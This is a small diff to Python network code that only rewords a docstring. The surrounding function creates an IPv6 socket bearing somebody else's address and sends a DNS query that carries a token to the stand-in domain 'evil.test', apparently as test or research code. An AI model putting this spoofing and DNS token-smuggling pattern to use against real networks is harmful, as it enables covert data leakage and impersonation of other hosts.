@@ -52,8 +52,8 @@ IPV6_FREEBIND = 78
 
 
 def from_anywhere(a):
-    """A socket with the address of somebody else: what answers it answers him. what: a question to the resolver,
-    or connections to a listener of its own."""
+    """A socket with somebody else's address: answers go to the owner of the address. what: a question to the
+    resolver, or connections to the program's own listener."""
     if a["what"] == "question":
         s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
         to, data = (a["server"], 53), wire.dns_query(a["token"] + ".evil.test")
